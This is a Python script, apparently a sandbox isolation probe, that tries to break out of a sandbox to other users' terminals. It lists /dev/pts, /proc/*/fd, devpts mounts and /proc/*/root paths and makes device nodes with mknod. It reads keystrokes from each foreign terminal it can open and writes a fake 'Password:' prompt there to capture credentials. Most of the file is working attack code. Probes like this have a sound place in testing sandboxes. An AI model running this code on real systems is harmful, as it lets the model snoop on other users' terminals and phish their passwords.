#!/usr/bin/env python3
"""Runs inside a sandbox and tries to reach the user's terminals outside it; writes what it got to
./attack.json. (1) Each of its stdin, stdout, stderr that is a terminal: reopened through
/proc/self/fd/N for reading (what the user types), and resized (a change that would outlive the
command). (2) Every path to another terminal it can find: $OTHER_TERMINAL, /dev/pts/*, /dev/char/*,
/dev/tty, /dev/console, /proc/*/fd/*, /proc/*/root/..., every devpts mounted anywhere, a device node
made with its number ($OTHER_TERMINAL_DEV) in ., /tmp and /dev/shm: each one that
opens and is not one of its own std terminals is read (a typed password) and written (a fake prompt)."""
import fcntl, glob, json, os, stat, struct, termios

result = {"own": {}, "opened": [], "tried": 0}


def identity(fd):
    """The terminal behind fd (TIOCGDEV: also through /dev/tty and /dev/console)."""
    return struct.unpack("I", fcntl.ioctl(fd, 0x80045432, b"\0" * 4))[0]


own = set()
for n in (0, 1, 2):
    if not os.isatty(n):
        continue
    own.add(identity(n))
    entry = {}
    try:
        fd = os.open(f"/proc/self/fd/{n}", os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        try:
            entry["read"] = os.read(fd, 4096).decode("utf-8", "replace")
        except BlockingIOError:
            entry["read"] = ""
        os.close(fd)
    except OSError as e:
        entry["read"] = f"open: {e.strerror}"
    try:
        fcntl.ioctl(n, termios.TIOCSWINSZ, struct.pack("HHHH", 11, 22, 0, 0))
        entry["resized"] = True
    except OSError as e:
        entry["resized"] = e.strerror
    result["own"][str(n)] = entry

candidates = set(glob.glob("/dev/pts/*") + glob.glob("/dev/char/*") + glob.glob("/proc/*/fd/*"))
candidates |= {"/dev/tty", "/dev/console"}
other = os.environ.get("OTHER_TERMINAL")
if other:
    candidates |= {other, *(f"{root}{other}" for root in glob.glob("/proc/*/root"))}
with open("/proc/self/mountinfo") as mountinfo:
    for line in mountinfo:
        fields = line.split()
        if fields[fields.index("-") + 1] == "devpts":
            candidates |= set(glob.glob(os.path.join(fields[4], "*")))
# A device node of its own for that terminal, in the writable places (needs CAP_MKNOD of the host).
device = os.environ.get("OTHER_TERMINAL_DEV")
result["mknod"] = {}
for node in ("./tty-node", "/tmp/tty-node", "/dev/shm/tty-node"):
    if not device:
        break
    major, minor = (int(n) for n in device.split(":"))
    try:
        os.mknod(node, 0o600 | stat.S_IFCHR, os.makedev(major, minor))
        result["mknod"][node] = "made"
        candidates.add(node)
    except OSError as e:
        result["mknod"][node] = e.strerror
for path in sorted(candidates):
    if os.path.basename(path) == "ptmx":
        continue  # a new pty of the sandbox's own
    result["tried"] += 1
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    if not os.isatty(fd) or identity(fd) in own:
        os.close(fd)
        continue
    try:
        got = os.read(fd, 4096).decode("utf-8", "replace")
    except OSError:
        got = ""
    try:
        os.write(fd, b"FAKE-PROMPT Password: ")
    except OSError:
        pass
    os.close(fd)
    result["opened"].append({"path": path, "read": got})

with open("attack.json", "w") as f:
    json.dump(result, f)
